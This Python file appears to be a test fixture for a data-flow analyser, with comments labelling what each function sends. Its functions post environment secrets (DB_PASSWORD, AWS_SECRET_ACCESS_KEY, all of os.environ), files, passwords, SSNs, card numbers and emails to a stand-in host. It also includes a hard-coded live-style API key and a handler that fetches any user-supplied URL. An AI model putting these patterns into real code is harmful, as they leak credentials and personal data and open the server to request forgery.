import argparse
import getpass
import os
import platform
import sqlite3
from dataclasses import asdict, dataclass

import requests
from flask import Flask, request
from pydantic import BaseModel, EmailStr

app = Flask(__name__)
API_KEY = "sk_live_4eC39HqLyjWDarjtT1zdp7dc"
URL = "https://s.example.com"


def environment():
    requests.post(URL, json=os.environ["DB_PASSWORD"])  # sends: SECRET -> s.example.com


def environment_get():
    requests.post(URL, json={"k": os.environ.get("AWS_SECRET_ACCESS_KEY", "")})  # sends: SECRET -> s.example.com


def environment_setting():
    requests.post(URL, json=os.environ["REGION_NAME"])  # sends: -> s.example.com


def whole_environment():
    requests.post(URL, json=dict(os.environ))  # sends: SECRET -> s.example.com


def hard_coded():
    requests.post(URL, json={"k": API_KEY})  # sends: SECRET -> s.example.com


def read_file(path):
    with open(path) as f:
        requests.post(URL, data=f.read())  # sends: FILE -> s.example.com


def opened(path):
    requests.post(URL, files={"f": open(path, "rb")})  # sends: FILE -> s.example.com


def system():
    requests.post(URL, json={"n": platform.node()})  # sends: DEVICE_ID -> s.example.com


def asked():
    requests.post(URL, json={"p": getpass.getpass()})  # sends: SECRET -> s.example.com


def rows():
    db = sqlite3.connect("x.db")
    row = db.execute("select * from t").fetchone()
    requests.post(URL, json=row)  # sends: DATABASE_ROW -> s.example.com


def command_line():
    args = argparse.ArgumentParser().parse_args()
    requests.post(URL, json=args.text)  # sends: COMMAND_LINE -> s.example.com


@app.route("/x", methods=["POST"])
def handler():
    body = request.get_json()
    requests.post(URL, json=body)  # sends: USER_INPUT -> s.example.com
    return "ok"


@app.post("/y")
def fields():
    requests.post(URL, json=request.form["email"])  # sends: EMAIL USER_INPUT -> s.example.com
    return "ok"


@app.get("/z/<term>")
def path_parameter(term):
    requests.post(URL, json=term)  # sends: USER_INPUT -> s.example.com
    return "ok"


@app.get("/fetch")
def forged():
    return requests.get(request.args.get("target")).text  # fetches: @USER_INPUT -> ?


class User(BaseModel):
    email: EmailStr
    phone: str
    count: int


def model(user: User):
    requests.post(URL, json=user.model_dump())  # sends: EMAIL PHONE -> s.example.com


@dataclass
class Patient:
    ssn: str
    visits: int


def data_class(patient: Patient):
    requests.post(URL, json=asdict(patient))  # sends: US_SSN -> s.example.com


def made(ssn):
    requests.post(URL, json=asdict(Patient(ssn, 3)))  # sends: US_SSN -> s.example.com


def typed(x: EmailStr):
    requests.post(URL, json=x)  # sends: EMAIL -> s.example.com


def local_name(lookup):
    email = lookup()
    requests.post(URL, json=email)  # sends: EMAIL -> s.example.com


def attribute(order):
    requests.post(URL, json={"to": order.buyer.email})  # sends: EMAIL -> s.example.com


def element(row):
    requests.post(URL, json=[row["credit_card"], row.get("iban")])  # sends: CREDIT_CARD IBAN -> s.example.com


def no_data(count, total):
    requests.post(URL, json={"count": count, "total": total})  # sends: -> s.example.com
